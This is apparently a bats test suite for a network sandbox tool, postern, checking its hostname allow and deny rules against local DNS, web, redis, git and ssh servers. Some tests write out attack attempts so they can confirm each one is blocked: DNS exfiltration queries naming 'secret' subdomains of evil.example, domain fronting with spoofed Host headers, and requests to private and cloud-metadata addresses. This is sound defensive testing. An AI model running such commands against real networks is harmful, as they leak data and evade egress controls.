#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# policy_names.bats - rules by name, with real programs on both frontends: a
# resolver and servers in `net`, several names on one address

setup_file()
{
	load lib.bash
	load servers.bash
	rig_up ||
		{ file_skips "no network namespace can be made here"; return; }
	mkdir -p "$RIG_DIR/etc" "$RIG_DIR/www"
	printf 'nameserver %s\n' "$NET4" >"$RIG_DIR/etc/resolv.conf"
	printf '127.0.0.1 localhost\n10.77.0.1 hosts-priv.example\n' \
		>"$RIG_DIR/etc/hosts"
	echo "this is the page" >"$RIG_DIR/www/page"
	chmod -R a+rX "$RIG_DIR/etc" "$RIG_DIR/www"
	# shellcheck disable=SC2016
	in_host sh -euc '
		mount --bind "$1/resolv.conf" /etc/resolv.conf
		mount --bind "$1/hosts" /etc/hosts' sh "$RIG_DIR/etc"
	in_net ip addr add 10.77.0.1/32 dev lo
	background dns in_net dnsmasq -d --conf-file=/dev/null --no-resolv \
		--no-hosts --bind-interfaces --listen-address="$NET4" \
		--log-queries --log-facility=- --user=root --pid-file= \
		--cache-size=0 --local=/example/ \
		--host-record=good.example,192.0.2.3 \
		--host-record=evil.example,192.0.2.3 \
		--host-record=other.example,192.0.2.4 \
		--host-record=priv.example,10.77.0.1 \
		--host-record=loop.example,127.0.0.1 \
		--host-record=own.example,192.0.2.1 \
		--host-record=meta.example,169.254.169.254 \
		--host-record=mixed.example,10.77.0.1 \
		--host-record=mixed.example,192.0.2.4 \
		--address=/wild.example/192.0.2.3 \
		--cname=alias.example,good.example
	openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=good.example \
		-addext subjectAltName=DNS:good.example,DNS:evil.example \
		-keyout "$RIG_DIR/key" -out "$RIG_DIR/www/cert" 2>/dev/null
	chmod a+r "$RIG_DIR/www/cert"
	cat >"$RIG_DIR/serve.py" <<-'PY'
		# HTTP on every address at 80 and 8080, TLS at 443; a line for each
		# request with the name it came under
		import http.server, ssl, sys, threading, os
		key, www = sys.argv[1:]
		os.chdir(www)
		class H(http.server.SimpleHTTPRequestHandler):
		    def log_message(self, *a):
		        print("served", self.server.server_port,
		              self.headers.get("Host"), flush=True)
		def serve(port):
		    s = http.server.ThreadingHTTPServer(("", port), H)
		    if port == 443:
		        c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
		        c.load_cert_chain(www + "/cert", key)
		        s.socket = c.wrap_socket(s.socket, server_side=True,
		                                 do_handshake_on_connect=False)
		    s.serve_forever()
		for port in (80, 8080, 443):
		    threading.Thread(target=serve, args=(port,)).start()
	PY
	background web in_net python3 "$RIG_DIR/serve.py" "$RIG_DIR/key" \
		"$RIG_DIR/www"
	eventually tcp_listens in_net 443
	eventually udp_listens in_net 53
	background redis in_net redis-server --bind 192.0.2.3 --port 6379 \
		--save '' --daemonize no --protected-mode no
	git init -q --bare "$RIG_DIR/repo.git"
	background git in_net git daemon --export-all --reuseaddr \
		--listen=192.0.2.3 --base-path="$RIG_DIR" "$RIG_DIR"
	ssh-keygen -q -t ed25519 -N '' -f "$RIG_DIR/hostkey"
	mkdir -p /run/sshd 2>/dev/null || true
	background ssh in_net /usr/sbin/sshd -D -e -f /dev/null -p 22 \
		-h "$RIG_DIR/hostkey" -o PidFile=none
	go_get_built || true
	(cd "$LIB_DIR" && musl-gcc -static -O1 -o "$RIG_DIR/resolve-musl" \
		resolve.c) || true
	WAYS=
	for way in link link,--link=veth sockets; do
		if as_user timeout -s KILL 20 "$POSTERN" "do" \
			--frontend=${way/,/ } -- true 2>/dev/null; then
			WAYS+=" $way"
		elif [ -n "${POSTERN_MUST_WORK:-}" ]; then
			echo "frontend $way does not work here" >&2
			return 1
		fi
	done
	export WAYS
}

teardown_file()
{
	load lib.bash
	rig_down
}

setup()
{
	load lib.bash
	bats_require_minimum_version 1.5.0
	cd "$BATS_TEST_TMPDIR" || return 1
	[ -n "$WAYS" ] || must_skip "neither frontend works here"
}

# inside WAY OPTION... -- CMD: stdout and stderr apart, in $output and $stderr
inside()
{
	local way=$1

	shift
	# shellcheck disable=SC2086
	run --separate-stderr as_user env -i PATH="$PATH" timeout -s KILL 30 \
		"$POSTERN" "do" --frontend=${way/,/ } "$@"
}

page()
{
	# shellcheck disable=SC2154
	[ "$status" = 0 ] && [ "$output" = "this is the page" ] ||
		{ echo "status $status: $output"; echo "$stderr"; false; }
}

# told LINE - exactly this line, once
told()
{
	# and by whom, wherever that is known; a line may have come in between
	# those of the program, never in one of its own
	# shellcheck disable=SC2001
	[ "$(sed 's/.*\(postern: \)/\1/; s/ by [^ ]*\[[0-9]*\]//' \
		<<<"$stderr" | grep -Fxc -- "postern: $1")" = 1 ] ||
		{ echo "not told once: $1"; echo "$stderr"; false; }
}

fetch=(curl -sS --max-time 10)

@test "these hosts and no others, without a variable" {
	for way in $WAYS; do
		inside "$way" --allow good.example:80 -- \
			"${fetch[@]}" http://good.example/page
		page
		[ -z "$stderr" ]
		inside "$way" --allow good.example:80 -- \
			"${fetch[@]}" http://other.example/page
		[ "$status" = 6 ] # curl: could not resolve
		told "denied other.example (no rule allows it); allow with --allow other.example"
		inside "$way" --allow good.example:80 -- \
			"${fetch[@]}" http://good.example:8080/page
		[ "$status" = 7 ]
		told "denied good.example:8080/tcp (no rule allows it); allow with --allow good.example:8080"
	done
}

@test "what a denial says to type is what it takes" {
	for way in $WAYS; do
		local allow=(--allow good.example:80)
		for _ in 1 2 3; do
			inside "$way" "${allow[@]}" -- \
				"${fetch[@]}" http://other.example:8080/page
			[ "$status" != 0 ] || break
			local more=${stderr##*allow with }
			more=${more%%$'\n'*}
			# shellcheck disable=SC2206
			allow+=($more)
		done
		page
	done
}

@test "an address is open only once it was learned from an allowed name" {
	for way in $WAYS; do
		inside "$way" --allow good.example:80 -- \
			"${fetch[@]}" http://192.0.2.3/page
		[ "$status" = 7 ]
		told "denied 192.0.2.3:80/tcp (no rule allows it); allow with --allow 192.0.2.3:80"
		inside "$way" --allow good.example:80 -- sh -c \
			'getent hosts good.example >/dev/null
			exec curl -sS --max-time 10 http://192.0.2.3/page'
		page
	done
}

@test "wildcards are below a name, aliases are what was asked" {
	for way in $WAYS; do
		inside "$way" --allow '*.wild.example' -- \
			"${fetch[@]}" http://a.b.wild.example/page
		page
		inside "$way" --allow '*.wild.example' -- \
			"${fetch[@]}" http://wild.example/page
		[ "$status" = 6 ]
		inside "$way" --allow alias.example -- \
			"${fetch[@]}" http://alias.example/page
		page
		inside "$way" --allow '*.wild.example' \
			--deny b.wild.example -- \
			"${fetch[@]}" http://b.wild.example/page
		[ "$status" = 6 ]
		told "denied b.wild.example (rule deny b.wild.example)"
	done
}

@test "--deny of a name leaves the rest open" {
	for way in $WAYS; do
		inside "$way" --deny evil.example -- \
			"${fetch[@]}" http://good.example/page
		page
		inside "$way" --deny evil.example -- \
			"${fetch[@]}" http://evil.example/page
		[ "$status" = 6 ]
	done
}

# T26
@test "another name on an allowed address is reset before a byte leaves" {
	local tls=(--cacert "$RIG_DIR/www/cert")
	for way in $WAYS; do
		inside "$way" --allow good.example:443 -- \
			"${fetch[@]}" "${tls[@]}" https://good.example/page
		page
		inside "$way" --allow good.example -- sh -c \
			'getent hosts good.example >/dev/null
			exec "$@"' sh "${fetch[@]}" "${tls[@]}" \
			--resolve evil.example:443:192.0.2.3 \
			https://evil.example/page
		[ "$status" != 0 ]
		told "denied evil.example:443/tcp (fronting: another name opened the address, good.example); allow with --allow evil.example:443"
		inside "$way" --allow good.example -- sh -c \
			'getent hosts good.example >/dev/null
			exec "$@"' sh "${fetch[@]}" -H "Host: evil.example" \
			http://good.example/page
		[ "$status" != 0 ]
		absent "served.*evil" "$RIG_DIR/web.log"
		inside "$way" --allow good.example --tls-names=off -- \
			"${fetch[@]}" -H "Host: evil.example" \
			http://good.example/page
		page
		grep -q "served 80 evil.example" "$RIG_DIR/web.log"
		: >"$RIG_DIR/web.log"
		# no name: as the mode has it
		inside "$way" --allow good.example -- \
			"${fetch[@]}" -0 -H Host: http://good.example/page
		page
		inside "$way" --allow good.example --tls-names=strict -- \
			"${fetch[@]}" -0 -H Host: http://good.example/page
		[ "$status" != 0 ]
	done
}

# T25
@test "a name opens nothing private or closed: filtered, and said" {
	for way in $WAYS; do
		for name in priv loop own meta; do
			inside "$way" --allow "$name.example" -- \
				"${fetch[@]}" "http://$name.example/page"
			[ "$status" = 6 ]
			[[ $stderr == *"denied $name.example ("* ]]
		done
		inside "$way" --allow priv.example -- \
			getent hosts priv.example
		told "denied priv.example (10.77.0.1: a name opens no private address); allow with --allow 10.77.0.1"
		inside "$way" --allow priv.example --allow 10.77.0.1 -- \
			"${fetch[@]}" http://priv.example/page
		page
		# of several addresses only the others are left
		inside "$way" --allow mixed.example -- \
			getent ahostsv4 mixed.example
		[[ $output == *192.0.2.4* && $output != *10.77* ]]
		# the user's own hosts file and --add-host are another matter
		inside "$way" --allow hosts-priv.example -- \
			"${fetch[@]}" http://hosts-priv.example/page
		page
		inside "$way" --allow x.example --add-host x.example:10.77.0.1 \
			-- "${fetch[@]}" http://x.example/page
		page
	done
}

# T28
@test "a denied name never leaves, by UDP or TCP or another server" {
	for way in $WAYS; do
		: >"$RIG_DIR/dns.log"
		inside "$way" --allow good.example -- sh -c '
			getent hosts secret1.evil.example
			dig +tries=1 secret2.evil.example TXT
			dig +tcp secret3.evil.example
			dig +tries=1 +time=1 @192.0.2.2 secret4.evil.example
			dig +tries=1 +time=1 @192.0.2.4 secret5.evil.example
			dig +tries=1 +time=1 +tcp @192.0.2.4 secret7.evil.example
			dig secret6.good.example; dig -x 192.0.2.77
			dig good.example >/dev/null'
		grep -qi good.example "$RIG_DIR/dns.log"
		absent -i 'secret\|192.0.2.77\|77.2.0.192' "$RIG_DIR/dns.log"
		[[ $stderr == *"denied 192.0.2.4:53/udp (no rule allows it)"*"; allow with --allow 192.0.2.4:53/udp"* ]]
		[[ $stderr == *"denied 192.0.2.4:53/tcp ("* ]]
		[[ $stderr == *"denied secret2.evil.example ("* ]]
		[[ $output == *"EDE: 15"*"no rule allows it"* ]]
	done
}

@test "QUIC is refused at once, and said" {
	for way in $WAYS; do
		inside "$way" --allow good.example -- python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
try:
    s.connect(("good.example", 443))
    s.send(b"x")
    s.recv(10)
except OSError as e:
    print(type(e).__name__)'
		# a plain read under sockets sees no error: a known difference
		[ "$way" = sockets ] || [ "$output" = OSError ]
		told "denied good.example:443/udp (QUIC hides the name it speaks to); allow with --allow good.example:443/udp"
	done
}

@test "a denied name fails at once, also in a static musl program" {
	[ -x "$RIG_DIR/resolve-musl" ] || must_skip "no musl-gcc"
	for way in $WAYS; do
		inside "$way" --allow good.example -- \
			"$RIG_DIR/resolve-musl" good.example
		[ "$output" = 192.0.2.3 ]
		inside "$way" --allow good.example -- sh -c '
			a=$(date +%s%N)
			"$1" evil.example
			b=$(date +%s%N)
			echo took $(((b - a) / 1000000))' \
			sh "$RIG_DIR/resolve-musl"
		[ "${output##*took }" -lt 100 ]
	done
}

# each PROGRAM... - run under an allow-list: NAME and PORT allowed, then not
each()
{
	local want=$1 port=$2

	shift 2
	for way in $WAYS; do
		inside "$way" --allow "good.example:$port" -- "$@"
		[[ $status = 0 && $output == *"$want"* ]] ||
			{ echo "$way: $status $output $stderr"; false; }
		inside "$way" --allow "good.example:1" -- "$@"
		[ "$status" != 0 ] || [[ $output != *"$want"* ]]
		told "denied good.example:$port/tcp (no rule allows it); allow with --allow good.example:$port"
		inside "$way" --allow "other.example:$port" -- "$@"
		[ "$status" != 0 ] || [[ $output != *"$want"* ]]
		told "denied good.example (no rule allows it); allow with --allow good.example"
	done
}

@test "python, node and a static Go program, allowed and denied" {
	each "this is the page" 80 python3 -c 'import urllib.request as u
print(u.urlopen("http://good.example/page", timeout=10).read().decode())'
	if command -v node >/dev/null; then
		each "this is the page" 80 node -e '
			fetch("http://good.example/page").then(r => r.text())
			.then(t => console.log(t),
			      e => { console.error(e.cause); process.exit(1) })'
	fi
	if [ -x "$RIG_DIR/get-go" ]; then
		each "this is the page" 80 "$RIG_DIR/get-go" \
			http://good.example/page
	fi
}

@test "redis, git and ssh: protocols that say no name, allowed and denied" {
	if command -v redis-cli >/dev/null; then
		eventually tcp_listens in_net 6379
		each PONG 6379 redis-cli -h good.example ping
	fi
	eventually tcp_listens in_net 9418
	git -C "$RIG_DIR/repo.git" symbolic-ref HEAD >/dev/null
	local head
	head=$(git -C "$RIG_DIR/repo.git" -c user.name=x -c user.email=x@x \
		commit-tree -m x \
		"$(git -C "$RIG_DIR/repo.git" mktree </dev/null)")
	git -C "$RIG_DIR/repo.git" update-ref refs/heads/main "$head"
	each "$head" 9418 git -C / ls-remote git://good.example/repo.git
	# sshd that is root of a namespace alone cannot shed its rights
	if command -v ssh-keyscan >/dev/null && [ -z "$RIG_ENTER" ]; then
		eventually tcp_listens in_net 22
		each ssh-ed25519 22 ssh-keyscan -T 5 -t ed25519 good.example
	fi
}

@test "--offline answers no name and opens nothing" {
	for way in $WAYS; do
		inside "$way" --offline -- "${fetch[@]}" http://good.example/page
		[ "$status" = 6 ]
		inside "$way" --offline -- getent hosts localhost
		[ "$status" = 0 ]
	done
}
